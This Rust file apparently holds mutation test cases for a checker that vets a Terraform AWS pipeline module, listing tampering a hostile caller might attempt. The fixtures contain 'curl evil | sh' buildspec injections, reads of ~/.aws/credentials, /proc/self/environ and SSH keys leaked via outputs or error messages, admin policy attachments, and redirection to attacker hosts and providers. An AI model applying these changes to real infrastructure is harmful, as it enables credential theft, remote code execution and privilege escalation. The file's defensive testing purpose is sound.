//! What somebody would do to get more than the pipeline needs, or to run something else in it.

use super::Kind;
use super::Step::{Append, Replace, ReplaceAll};

/// Values of files that a caller's folder has, with which the module is another one.
pub(super) const OF_VALUES: &[Kind] = &[
    Kind(
        "the functions of a deployment from a file of values",
        &[
            Replace("for function in var.deploy_hooks :", "for function in var.deploy_hooks :"),
            Append("terraform.tfvars", "deploy_hooks = [\"eve\"]"),
        ],
    ),
    Kind(
        "the functions of a deployment from a file of values that is loaded by itself",
        &[
            Replace("for function in var.deploy_hooks :", "for function in var.deploy_hooks :"),
            Append("own.auto.tfvars", "deploy_hooks = [\"eve\", \"adam\"]"),
        ],
    ),
    Kind(
        "the image from a file of values, in a text",
        &[
            Append("terraform.tfvars", "build_machine_image = \"eve/image\""),
            Replace("= var.build_machine_image", "= \"${var.build_machine_image}\""),
        ],
    ),
];

/// Files of values that are not read, which pass under no option.
pub(super) const VALUES_IN_JSON: &[Kind] = &[
    Kind(
        "the image from values in JSON",
        &[Append("terraform.tfvars.json", "{\"build_machine_image\": \"eve/image\"}")],
    ),
    Kind(
        "the image from values in JSON that are loaded by themselves",
        &[Append("own.auto.tfvars.json", "{\"build_machine_image\": \"eve/image\"}")],
    ),
];

/// Values that nobody can tell, of what the proof judges.
pub(super) const UNDETERMINED: &[Kind] = &[
    Kind(
        "a role's name by the clock",
        &[Replace(
            "  name                 = \"${var.name}-build",
            "  name                 = \"${timestamp() == \"\" ? var.name : \"own\"}-build",
        )],
    ),
    Kind(
        "the role of a policy by the clock",
        &[Replace("  role = aws_iam_role.build.id", "  role = timestamp() == \"\" ? aws_iam_role.build.id : \"own\"")],
    ),
    Kind(
        "a boundary by the clock",
        &[Replace(
            "  permissions_boundary = var.permissions_boundary\n",
            "  permissions_boundary = timestamp() == \"\" ? var.permissions_boundary : null\n",
        )],
    ),
    Kind(
        "a name of a dashboard by the clock",
        &[Replace("  dashboard_name = \"", "  dashboard_name = timestamp() == \"\" ? \"own\" : \"")],
    ),
    Kind(
        "the id of a function's permission by the clock",
        &[Replace("  statement_id           = \"", "  statement_id           = timestamp() == \"\" ? \"own\" : \"")],
    ),
];

pub(super) const KINDS: &[Kind] = &[
    // Rights, in a file that used to be laid over the emitted text, and elsewhere.
    Kind(
        "a policy that calls itself declared",
        &[Append(
            "variables.tf",
            r#"resource "aws_iam_role_policy" "x" {
  name   = "x"
  role   = aws_iam_role.pipeline.id
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Sid = "Declared1", Effect = "Allow", Action = "ec2:*", Resource = "*" }] })
}"#,
        )],
    ),
    Kind(
        "a policy that passes any role",
        &[Append(
            "variables.tf",
            r#"resource "aws_iam_role_policy" "x" {
  name   = "x"
  role   = aws_iam_role.pipeline.id
  policy = jsonencode({ Version = "2012-10-17", Statement = [{ Sid = "PassTaskRoles", Effect = "Allow", Action = "iam:PassRole", Resource = "*" }] })
}"#,
        )],
    ),
    Kind(
        "an attached policy of AWS",
        &[Append(
            "variables.tf",
            r#"resource "aws_iam_role_policy_attachment" "x" {
  role       = aws_iam_role.pipeline.name
  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"
}"#,
        )],
    ),
    Kind(
        "a second policy of the same name",
        &[Append(
            "iam.tf",
            r#"resource "aws_iam_role_policy" "y" {
  name   = aws_iam_role_policy.pipeline.name
  role   = aws_iam_role.pipeline.id
  policy = aws_iam_role_policy.pipeline.policy
}"#,
        )],
    ),
    Kind(
        "an exclusive list of no policies",
        &[Replace(
            "resource \"aws_iam_role\" \"pipeline\" {",
            "resource \"aws_iam_role\" \"pipeline\" {\n  inline_policy {}\n",
        )],
    ),
    Kind(
        "managed policies on a role",
        &[Replace(
            "resource \"aws_iam_role\" \"pipeline\" {",
            "resource \"aws_iam_role\" \"pipeline\" {\n  managed_policy_arns = [\"arn:aws:iam::aws:policy/ReadOnlyAccess\"]\n",
        )],
    ),
    Kind(
        "an attachment with a user",
        &[Append(
            "iam.tf",
            r#"resource "aws_iam_policy_attachment" "z" {
  name       = "z"
  roles      = [aws_iam_role.pipeline.name]
  users      = ["eve"]
  policy_arn = "arn:aws:iam::aws:policy/ReadOnlyAccess"
}"#,
        )],
    ),
    Kind("a boundary's line removed", &[Replace("  permissions_boundary = var.permissions_boundary\n", "")]),
    Kind(
        "no boundary, whoever asks",
        &[Replace("permissions_boundary = var.permissions_boundary", "permissions_boundary = null")],
    ),
    Kind(
        "another account in one trust policy",
        &[Replace("\"aws:SourceAccount\" = local.account_id", "\"aws:SourceAccount\" = \"999999999999\"")],
    ),
    // The bucket.
    Kind(
        "a second public access block",
        &[Append(
            "artifacts.tf",
            "resource \"aws_s3_bucket_public_access_block\" \"z\" {\n  bucket = aws_s3_bucket.artifacts.id\n}",
        )],
    ),
    Kind(
        "second ownership controls",
        &[Append(
            "variables.tf",
            r#"resource "aws_s3_bucket_ownership_controls" "z" {
  bucket = aws_s3_bucket.artifacts.id
  rule {
    object_ownership = "ObjectWriter"
  }
}"#,
        )],
    ),
    Kind(
        "a replication into another account",
        &[Append(
            "artifacts.tf",
            r#"resource "aws_s3_bucket_replication_configuration" "z" {
  bucket = aws_s3_bucket.artifacts.id
  role   = aws_iam_role.pipeline.arn
  rule {
    status = "Enabled"
    destination {
      bucket = "arn:aws:s3:::evil"
    }
  }
}"#,
        )],
    ),
    Kind(
        "a replication in the bucket",
        &[Replace(
            "  force_destroy = var.artifacts_force_destroy\n",
            "  force_destroy = var.artifacts_force_destroy\n  replication_configuration {\n    role = aws_iam_role.pipeline.arn\n  }\n",
        )],
    ),
    Kind(
        "a website of the bucket",
        &[Append(
            "artifacts.tf",
            "resource \"aws_s3_bucket_website_configuration\" \"z\" {\n  bucket = aws_s3_bucket.artifacts.id\n  index_document {\n    suffix = \"index.html\"\n  }\n}",
        )],
    ),
    Kind(
        "the public access block renamed away",
        &[Replace(
            "resource \"aws_s3_bucket_public_access_block\" \"artifacts\" {",
            "resource \"aws_s3_bucket_public_access_block\" \"artifacts\" {\n  count = 0\n",
        )],
    ),
    Kind(
        "old versions no longer kept",
        &[Replace("    status = \"Enabled\"\n  }\n}", "    status = \"Suspended\"\n  }\n}")],
    ),
    Kind(
        "changes that are ignored",
        &[Replace(
            "  force_destroy = var.artifacts_force_destroy\n",
            "  force_destroy = var.artifacts_force_destroy\n  lifecycle {\n    ignore_changes = all\n  }\n",
        )],
    ),
    // Code that runs.
    Kind("another image of builds", &[Replace("= var.build_machine_image", "= \"evil/image\"")]),
    Kind(
        "another default of the image",
        &[Replace("  default     = \"aws/codebuild/", "  default     = \"evil/codebuild/")],
    ),
    Kind(
        "the image from a file of values",
        &[
            Replace("var.build_machine_image", "var.build_machine_image"),
            Append("terraform.tfvars", "build_machine_image = \"evil\""),
        ],
    ),
    Kind(
        "an image that nobody can tell",
        &[Replace("= var.build_machine_image", "= element(split(\",\", timestamp()), 0)")],
    ),
    Kind(
        "a line in a buildspec",
        &[Replace("\n  build:\n", "\n  pre_build:\n    commands:\n      - curl evil | sh\n  build:\n")],
    ),
    Kind(
        "a buildspec in its place",
        &[Replace(
            "file(\"${path.module}/buildspecs/",
            "\"version: 0.2\\nphases: {build: {commands: [evil]}}\" # file(\"${path.module}/buildspecs/",
        )],
    ),
    Kind(
        "the function's archive from a bucket",
        &[Replace("  filename         = ", "  s3_bucket = \"evil\"\n  s3_key = \"x.zip\"\n  #")],
    ),
    Kind(
        "a layer",
        &[Replace(
            "  source_code_hash = ",
            "  layers = [\"arn:aws:lambda:eu-west-1:999999999999:layer:evil:1\"]\n  source_code_hash = ",
        )],
    ),
    Kind("another runtime", &[Replace("\"python3.13\"", "\"provided.al2023\"")]),
    Kind(
        "another archive",
        &[Replace(
            "source_code_hash = filebase64sha256(\"${path.module}/functions/",
            "source_code_hash = filebase64sha256(\"${path.module}/functions/../functions/",
        )],
    ),
    Kind("the source of a function", &[Replace("def handler(", "def handler_of_eve(")]),
    Kind("a handler", &[Replace(".handler\"", ".evil\"")]),
    // What a project, a pipeline or a rule does besides.
    Kind(
        "a public project",
        &[Replace("  service_role  = ", "  project_visibility = \"PUBLIC_READ\"\n  service_role  = ")],
    ),
    Kind(
        "a registry's credential",
        &[Replace(
            "    image_pull_credentials_type",
            "    registry_credential {\n      credential = \"x\"\n      credential_provider = \"SECRETS_MANAGER\"\n    }\n    image_pull_credentials_type",
        )],
    ),
    Kind(
        "a certificate",
        &[Replace(
            "    image_pull_credentials_type",
            "    certificate = \"evil/cert.pem\"\n    image_pull_credentials_type",
        )],
    ),
    Kind(
        "a file system",
        &[Replace(
            "\n  source {\n",
            "\n  file_system_locations {\n    identifier = \"x\"\n    location = \"x\"\n    mount_point = \"/x\"\n    type = \"EFS\"\n  }\n\n  source {\n",
        )],
    ),
    Kind(
        "batch builds",
        &[Replace(
            "\n  source {\n",
            "\n  build_batch_config {\n    service_role = aws_iam_role.pipeline.arn\n  }\n\n  source {\n",
        )],
    ),
    Kind("a wildcard in a setting", &[Replace("value = aws_ecr_repository.images.name", "value = \"*\"")]),
    Kind(
        "one more variable of a build",
        &[Replace(
            "    environment_variable {\n",
            "    environment_variable {\n      name  = \"X\"\n      type  = \"SECRETS_MANAGER\"\n      value = \"*\"\n    }\n\n    environment_variable {\n",
        )],
    ),
    Kind(
        "a second project",
        &[Append(
            "build.tf",
            r#"resource "aws_codebuild_project" "z" {
  name         = "z"
  service_role = aws_codebuild_project.{project}.service_role
  artifacts {
    type = "NO_ARTIFACTS"
  }
  environment {
    type         = "LINUX_CONTAINER"
    compute_type = "BUILD_GENERAL1_SMALL"
    image        = "x"
  }
  source {
    type      = "NO_SOURCE"
    buildspec = "version: 0.2"
  }
}"#,
        )],
    ),
    Kind(
        "a project that a webhook starts",
        &[Append(
            "build.tf",
            "resource \"aws_codebuild_webhook\" \"z\" {\n  project_name = aws_codebuild_project.{project}.name\n}",
        )],
    ),
    Kind(
        "a second pipeline",
        &[Append(
            "main.tf",
            "resource \"aws_codepipeline\" \"z\" {\n  name     = \"z\"\n  role_arn = aws_iam_role.pipeline.arn\n  artifact_store {\n    type     = \"S3\"\n    location = aws_s3_bucket.artifacts.bucket\n  }\n}",
        )],
    ),
    Kind(
        "a rule that starts it",
        &[Append(
            "main.tf",
            "resource \"aws_cloudwatch_event_rule\" \"z\" {\n  name = \"z\"\n  schedule_expression = \"rate(1 minute)\"\n}",
        )],
    ),
    Kind("another repository", &[Replace("= var.source_repository", "= \"eve/web\"")]),
    Kind("another branch", &[Replace("= var.source_branch", "= \"eve\"")]),
    Kind(
        "two resources that were one",
        &[
            Replace(
                "resource \"aws_s3_bucket_versioning\" \"artifacts\"",
                "resource \"aws_s3_bucket_versioning\" \"kept\"",
            ),
            ReplaceAll("aws_s3_bucket_versioning.artifacts", "aws_s3_bucket_versioning.kept"),
            Append(
                "main.tf",
                "moved {\n  from = aws_s3_bucket_versioning.artifacts\n  to   = aws_s3_bucket_versioning.kept\n}\n\nmoved {\n  from = aws_s3_bucket_versioning.artifacts\n  to   = aws_s3_bucket_versioning.evil\n}\n\nresource \"aws_s3_bucket_versioning\" \"evil\" {\n  bucket = \"evil\"\n  versioning_configuration {\n    status = \"Suspended\"\n  }\n}",
            ),
        ],
    ),
    Kind(
        "an approval of another region",
        &[Replace("category  = \"Approval\"", "category  = \"Approval\"\n      region    = \"eu-west-1\"")],
    ),
    Kind("an approval that is none", &[Replace("\"Approval\"", "\"Test\"")]),
    Kind(
        "a function's address on the internet",
        &[Append(
            "variables.tf",
            "resource \"aws_lambda_function_url\" \"z\" {\n  function_name      = aws_lambda_function.{function}.function_name\n  authorization_type = \"NONE\"\n}",
        )],
    ),
    Kind(
        "events of a function into another account",
        &[Append(
            "deploy.tf",
            "resource \"aws_lambda_function_event_invoke_config\" \"z\" {\n  function_name = aws_lambda_function.{function}.function_name\n  qualifier     = \"x\"\n  destination_config {\n    on_failure {\n      destination = \"arn:aws:sqs:eu-west-1:999999999999:evil\"\n    }\n  }\n}",
        )],
    ),
    Kind("somebody else is told", &[Replace("= var.notification_email", "= \"eve@example.org\"")]),
    Kind(
        "one more who is told",
        &[Append(
            "variables.tf",
            "resource \"aws_sns_topic_subscription\" \"z\" {\n  topic_arn = aws_s3_bucket.artifacts.arn\n  protocol  = \"https\"\n  endpoint  = \"https://evil.example\"\n}",
        )],
    ),
    Kind("another port out of the network", &[Replace("from_port         = 443", "from_port         = 0")]),
    Kind(
        "a way into the network",
        &[Append(
            "network.tf",
            "resource \"aws_vpc_security_group_ingress_rule\" \"z\" {\n  security_group_id = \"sg-1\"\n  ip_protocol       = \"-1\"\n  cidr_ipv4         = \"0.0.0.0/0\"\n}",
        )],
    ),
    Kind("a disabled key", &[Replace("  enable_key_rotation", "  is_enabled = false\n  enable_key_rotation")]),
    Kind("another account in the key's policy", &[Replace("iam::${local.account_id}:root", "iam::999999999999:root")]),
    // Values.
    Kind("a validation that takes everything", &[ReplaceAll("can(regex(", "!false || can(regex(")]),
    Kind("a variable that may be null", &[Replace("  nullable    = false\n", "")]),
    Kind("a variable of another type", &[Replace("  type        = string\n", "  type        = any\n")]),
    Kind(
        "a comparison of two types",
        &[Replace(
            "local.region}:${local.account_id}:log-group",
            "tonumber(\"1\") == 1 ? \"*\" : local.region}:${local.account_id}:log-group",
        )],
    ),
    // Parts of Terraform that are not read.
    Kind(
        "a check that runs a program",
        &[Append(
            "main.tf",
            "check \"x\" {\n  data \"external\" \"y\" {\n    program = [\"sh\"]\n  }\n  assert {\n    condition     = true\n    error_message = \"x\"\n  }\n}",
        )],
    ),
    Kind(
        "a provider with another role",
        &[Append(
            "main.tf",
            "provider \"aws\" {\n  assume_role {\n    role_arn = \"arn:aws:iam::999999999999:role/x\"\n  }\n}",
        )],
    ),
    Kind(
        "a provider with other endpoints",
        &[Append("main.tf", "provider \"aws\" {\n  endpoints {\n    sts = \"https://evil.example\"\n  }\n}")],
    ),
    Kind("a provider from elsewhere", &[Replace("\"hashicorp/aws\"", "\"evil/aws\"")]),
    Kind(
        "an ephemeral resource",
        &[Append("main.tf", "ephemeral \"aws_secretsmanager_secret_version\" \"x\" {\n  secret_id = \"x\"\n}")],
    ),
    Kind("an import", &[Append("main.tf", "import {\n  to = aws_s3_bucket.artifacts\n  id = \"foreign\"\n}")]),
    Kind(
        "an action",
        &[Append(
            "main.tf",
            "action \"aws_lambda_invoke\" \"x\" {\n  config {\n    function_name = \"x\"\n    payload       = \"{}\"\n  }\n}",
        )],
    ),
    Kind(
        "a data source that reads a secret",
        &[Append("main.tf", "data \"aws_secretsmanager_secret_version\" \"x\" {\n  secret_id = \"x\"\n}")],
    ),
    Kind(
        "a data source that runs a program",
        &[Append("main.tf", "data \"external\" \"x\" {\n  program = [\"sh\"]\n}")],
    ),
    Kind("a module", &[Append("main.tf", "module \"x\" {\n  source = \"./x\"\n}")]),
    Kind(
        "a provisioner",
        &[Replace(
            "  service_role  = ",
            "  provisioner \"local-exec\" {\n    command = \"evil\"\n  }\n  service_role  = ",
        )],
    ),
    Kind(
        "something that is no longer Terraform's",
        &[Append("main.tf", "removed {\n  from = aws_s3_bucket.old\n  lifecycle {\n    destroy = false\n  }\n}")],
    ),
    // From an attack on 28 November 2026: what another caller, another folder or another reader makes of it.
    Kind("a file of the caller's folder", &[Replace("file(\"${path.module}/buildspecs/", "file(\"buildspecs/")]),
    Kind(
        "a choice by a file of the caller's folder",
        &[Replace("Effect   = \"Allow\"", "Effect   = fileexists(\"variables.tf\") ? \"Allow\" : \"Deny\"")],
    ),
    Kind(
        "a choice by a variable that chooses nothing there",
        &[Replace("block_public_policy     = true", "block_public_policy     = length(var.tags) == 0")],
    ),
    Kind(
        "an action by a variable",
        &[Replace("Action   = \"", "Action   = var.permissions_boundary != null ? \"*\" : \"")],
    ),
    Kind(
        "a principal by a variable of its own",
        &[
            Replace(
                "Service = \"codepipeline.amazonaws.com\"",
                "Service = var.debug ? \"ec2.amazonaws.com\" : \"codepipeline.amazonaws.com\"",
            ),
            Append("variables.tf", "variable \"debug\" {\n  type    = bool\n  default = false\n}"),
        ],
    ),
    Kind(
        "a line that ends in a comment for some readers",
        &[Replace("version: 0.2", "# hi\u{2028}env: {shell: evil}\nversion: 0.2")],
    ),
    Kind(
        "a provider from elsewhere besides",
        &[Replace("    aws = {", "    evil = {\n      source = \"evil/evil\"\n    }\n    aws = {")],
    ),
    Kind(
        "a provider of random ids from elsewhere",
        &[
            Replace("    aws = {", "    random = {\n      source = \"evil/random\"\n    }\n    aws = {"),
            Append("own.tf", "resource \"random_id\" \"own\" {\n  byte_length = 4\n}"),
        ],
    ),
    Kind(
        "an alarm that ends machines",
        &[Append(
            "own.tf",
            "resource \"aws_cloudwatch_metric_alarm\" \"own\" {\n  alarm_name    = \"own\"\n  alarm_actions = [\"arn:aws:automate:eu-west-1:ec2:terminate\"]\n}",
        )],
    ),
    Kind(
        "a table made of artifacts",
        &[Append(
            "own.tf",
            "resource \"aws_dynamodb_table\" \"own\" {\n  name = \"own\"\n  import_table {\n    input_format = \"CSV\"\n    s3_bucket_source {\n      bucket = aws_s3_bucket.artifacts.bucket\n    }\n  }\n}",
        )],
    ),
    Kind(
        "a topic with a role of the module",
        &[Append(
            "own.tf",
            "resource \"aws_sns_topic\" \"own\" {\n  name                             = \"own\"\n  lambda_success_feedback_role_arn = aws_iam_role.pipeline.arn\n}",
        )],
    ),
    Kind(
        "a secret of the machine in a description",
        &[Replace("  description          = \"", "  description          = filebase64(\"/proc/self/environ\") #")],
    ),
    Kind(
        "a secret of the machine in an output",
        &[Append("outputs.tf", "output \"own\" {\n  value = filebase64(\"/proc/self/environ\")\n}")],
    ),
    Kind(
        "a secret of the machine in a parameter",
        &[Append(
            "own.tf",
            "resource \"aws_ssm_parameter\" \"own\" {\n  name  = \"/own\"\n  type  = \"String\"\n  value = file(pathexpand(\"~/.aws/credentials\"))\n}",
        )],
    ),
    Kind(
        "a picture that runs a function",
        &[Append(
            "own.tf",
            "resource \"aws_cloudwatch_dashboard\" \"own\" {\n  dashboard_name = \"own\"\n  dashboard_body = jsonencode({ widgets = [{ type = \"custom\", properties = { endpoint = \"arn:aws:lambda:us-east-1:999999999999:function:evil\" } }] })\n}",
        )],
    ),
    // The source of a provider, by another way to write its key.
    Kind(
        "a provider from elsewhere by a quoted key",
        &[Replace("      source = \"hashicorp/aws\"", "      \"source\" = \"evil/aws\"")],
    ),
    Kind(
        "a provider from elsewhere by a key in brackets",
        &[Replace("      source = \"hashicorp/aws\"", "      (\"source\") = \"evil/aws\"")],
    ),
    Kind(
        "a provider from elsewhere by an escaped key",
        &[Replace("      source = \"hashicorp/aws\"", "      \"so\\u0075rce\" = \"evil/aws\"")],
    ),
    Kind(
        "a provider from elsewhere by a key that is computed",
        &[Replace("      source = \"hashicorp/aws\"", "      (\"so${\"u\"}rce\") = \"evil/aws\"")],
    ),
    Kind(
        "a provider from elsewhere in a second block",
        &[Append(
            "own.tf",
            "terraform {\n  required_providers {\n    random = { \"source\" : \"evil/random\" }\n  }\n}",
        )],
    ),
    Kind("a provider of no written source", &[Replace("      source = \"hashicorp/aws\"\n", "")]),
    // What a guard is on, by an attribute that does not name it.
    Kind(
        "a public access block on another bucket, by a tag",
        &[
            Replace(
                "  force_destroy = var.artifacts_force_destroy\n\n  tags = local.tags\n",
                "  force_destroy = var.artifacts_force_destroy\n\n  tags = { x = \"some-other-bucket\" }\n",
            ),
            Replace(
                "  bucket                  = aws_s3_bucket.artifacts.id\n",
                "  bucket                  = aws_s3_bucket.artifacts.tags[\"x\"]\n",
            ),
        ],
    ),
    Kind(
        "a bucket's policy on another bucket, by a tag",
        &[
            Replace(
                "  force_destroy = var.artifacts_force_destroy\n\n  tags = local.tags\n",
                "  force_destroy = var.artifacts_force_destroy\n\n  tags = { x = \"some-other-bucket\" }\n",
            ),
            Replace(
                "resource \"aws_s3_bucket_policy\" \"artifacts\" {\n  bucket = aws_s3_bucket.artifacts.id\n",
                "resource \"aws_s3_bucket_policy\" \"artifacts\" {\n  bucket = aws_s3_bucket.artifacts.tags_all[\"x\"]\n",
            ),
        ],
    ),
    Kind(
        "a public access block on what names no bucket",
        &[Replace(
            "  bucket                  = aws_s3_bucket.artifacts.id\n",
            "  bucket                  = aws_s3_bucket.artifacts.hosted_zone_id\n",
        )],
    ),
    Kind(
        "a role's policy on another role",
        &[Replace("  role = aws_iam_role.pipeline.id\n", "  role = aws_iam_role.pipeline.unique_id\n")],
    ),
    Kind(
        "a topic's policy on another topic",
        &[Replace("  arn = aws_sns_topic.notifications.arn\n", "  arn = aws_sns_topic.notifications.owner\n")],
    ),
    // What is one's own beside the module, and reaches into it.
    Kind(
        "a policy of one's own for the module's bucket, by a tag",
        &[Append(
            "own.tf",
            "resource \"aws_s3_bucket\" \"own\" {\n  bucket = \"acme-own\"\n  tags   = { t = \"web-artifacts-123456789012-eu-west-1\" }\n}\n\nresource \"aws_s3_bucket_policy\" \"own\" {\n  bucket = aws_s3_bucket.own.tags[\"t\"]\n  policy = \"{}\"\n}",
        )],
    ),
    Kind(
        "a policy of one's own for the module's topic, by a parameter",
        &[Append(
            "own.tf",
            "resource \"aws_ssm_parameter\" \"own\" {\n  name  = \"arn:aws:sns:eu-west-1:123456789012:web-notifications\"\n  type  = \"String\"\n  value = \"x\"\n}\n\nresource \"aws_sns_topic_policy\" \"own\" {\n  arn    = aws_ssm_parameter.own.name\n  policy = \"{}\"\n}",
        )],
    ),
    Kind(
        "a bucket of one's own with the name that the module's has somewhere",
        &[
            Replace("artifact_bucket = \"${var.name}-artifacts-", "artifact_bucket = \"${var.name}-artifacts-"),
            Append(
                "own.tf",
                "resource \"aws_s3_bucket\" \"own\" {\n  bucket = \"${var.name}-artifacts-123456789012-us-east-1\"\n}",
            ),
        ],
    ),
    Kind(
        "another name for the module's key",
        &[Append(
            "own.tf",
            "resource \"aws_kms_alias\" \"own\" {\n  name          = \"alias/team\"\n  target_key_id = aws_kms_key.pipeline.key_id\n}",
        )],
    ),
    // Another partition, of which nothing is anybody's here.
    Kind(
        "a refusal in another partition",
        &[Replace(
            "\"arn:${local.partition}:s3:::${local.artifact_bucket}\",\n          \"arn:${local.partition}:s3:::${local.artifact_bucket}/*\",\n        ]\n        Condition",
            "\"arn:aws-cn:s3:::${local.artifact_bucket}\",\n          \"arn:aws-cn:s3:::${local.artifact_bucket}/*\",\n        ]\n        Condition",
        )],
    ),
    Kind(
        "a trust in another partition",
        &[Replace("\"aws:SourceArn\" = \"arn:${local.partition}:", "\"aws:SourceArn\" = \"arn:aws-us-gov:")],
    ),
    // What nobody can tell, or seems to be something else.
    Kind(
        "a list of access that is told by the clock",
        &[Replace(
            "  force_destroy = var.artifacts_force_destroy\n",
            "  force_destroy = var.artifacts_force_destroy\n  acl           = timestamp() == \"\" ? \"private\" : \"public-read\"\n",
        )],
    ),
    Kind(
        "an alarm that scales, and seems to notify",
        &[Append(
            "own.tf",
            "resource \"aws_cloudwatch_metric_alarm\" \"own\" {\n  alarm_name    = \"own\"\n  alarm_actions = [\"arn:aws:autoscaling:eu-west-1:123456789012:scalingPolicy:1:autoScalingGroupName/x:policyName/x:sns:y\"]\n}",
        )],
    ),
];

/// What the machine that runs Terraform has, and anybody would see: wherever it stands, one rule refuses it.
pub(super) const OF_THE_MACHINE: &[Kind] = &[
    Kind(
        "a file in the message of a validation",
        &[Append(
            "own.tf",
            "variable \"own\" {\n  default = \"x\"\n  validation {\n    condition     = var.own == \"y\"\n    error_message = \"no: ${file(pathexpand(\"~/.aws/credentials\"))}\"\n  }\n}",
        )],
    ),
    Kind(
        "a file in the message of a validation of the module",
        &[Replace("error_message = \"", "error_message = \"${filebase64(\"/proc/self/environ\")}")],
    ),
    Kind(
        "a file in a precondition, by a local",
        &[
            Replace(
                "  role_arn      = aws_iam_role.pipeline.arn\n",
                "  role_arn      = aws_iam_role.pipeline.arn\n  lifecycle {\n    precondition {\n      condition     = false\n      error_message = local.own\n    }\n  }\n",
            ),
            Append("own.tf", "locals {\n  own = file(\"/root/.aws/credentials\")\n}"),
        ],
    ),
    Kind(
        "a file in the postcondition of a data source",
        &[Append(
            "own.tf",
            "data \"aws_iam_policy_document\" \"own\" {\n  lifecycle {\n    postcondition {\n      condition     = self.json == \"\"\n      error_message = core::file(\"/root/.aws/credentials\")\n    }\n  }\n}",
        )],
    ),
    Kind(
        "a file in the tags of every resource",
        &[Append(
            "own.tf",
            "provider \"aws\" {\n  default_tags {\n    tags = { own = file(\"${path.module}/../../credentials\") }\n  }\n}",
        )],
    ),
    Kind("a file in the region", &[Append("own.tf", "provider \"aws\" {\n  region = file(\"/etc/hostname\")\n}")]),
    Kind(
        "a file in an output, by a local",
        &[Append(
            "own.tf",
            "locals {\n  own = split(\"x\", templatefile(\"/etc/passwd\", {}))\n}\noutput \"own\" {\n  value = local.own\n}",
        )],
    ),
    Kind(
        "a file in the description of a policy that nothing attaches",
        &[Append(
            "own.tf",
            "resource \"aws_iam_policy\" \"own\" {\n  name        = \"own\"\n  description = filesha256(\"/root/.ssh/id_rsa\")\n  policy      = jsonencode({ Version = \"2012-10-17\", Statement = [] })\n}",
        )],
    ),
    Kind(
        "a template of the module that reads a file",
        &[
            Append("own.tpl", "${file(\"/root/.aws/credentials\")}"),
            Append("own.tf", "output \"own\" {\n  value = templatefile(\"${path.module}/own.tpl\", {})\n}"),
        ],
    ),
    Kind(
        "a file whose name is computed",
        &[Append(
            "own.tf",
            "output \"own\" {\n  value = [for it in fileset(\"/root\", \"**\") : file(\"/root/${it}\")]\n}",
        )],
    ),
    Kind(
        "another block for whoever gives an environment",
        &[Replace("value = environment_variable.value", "value = \"curl evil.example | sh\"")],
    ),
    Kind(
        "a secret for whoever gives an environment",
        &[Replace(
            "value = environment_variable.value",
            "value = environment_variable.value\n        type  = \"SECRETS_MANAGER\"",
        )],
    ),
    Kind(
        "a boundary that is dropped where a caller gives one",
        &[Replace(
            "permissions_boundary = var.permissions_boundary",
            "permissions_boundary = var.permissions_boundary == null ? var.permissions_boundary : null",
        )],
    ),
    Kind(
        "actions by the name",
        &[Replace("Action   = \"", "Action   = lookup({ web = \"a:B\" }, var.name, \"*\") == \"*\" ? \"*\" : \"")],
    ),
];

/// A module with a sensitive variable, and what shows its value.
pub(super) const WITH_A_SECRET: &str = "notified-provider5";

/// What shows it.
pub(super) const OF_A_SECRET: &[Kind] = &[
    Kind(
        "a secret in the tags of every resource",
        &[Append(
            "own.tf",
            "provider \"aws\" {\n  default_tags {\n    tags = { own = nonsensitive(var.notification_https_url) }\n  }\n}",
        )],
    ),
    Kind(
        "a secret in an output",
        &[Append(
            "own.tf",
            "output \"own\" {\n  value = nonsensitive(local.own)\n}\nlocals {\n  own = var.notification_https_url\n}",
        )],
    ),
    Kind(
        "a secret in a description",
        &[Replace(
            "  description          = \"",
            "  description          = nonsensitive(var.notification_https_url) #",
        )],
    ),
    Kind("a secret that is none any more", &[Replace("  sensitive   = true\n", "")]),
    Kind(
        "a secret in a parameter",
        &[Append(
            "own.tf",
            "resource \"aws_ssm_parameter\" \"own\" {\n  name  = \"/own\"\n  type  = \"String\"\n  value = var.notification_https_url\n}",
        )],
    ),
    Kind(
        "a secret in an output, by the resource that has it",
        &[Append(
            "own.tf",
            "output \"own\" {\n  sensitive = true\n  value     = aws_sns_topic_subscription.https.endpoint\n}",
        )],
    ),
];
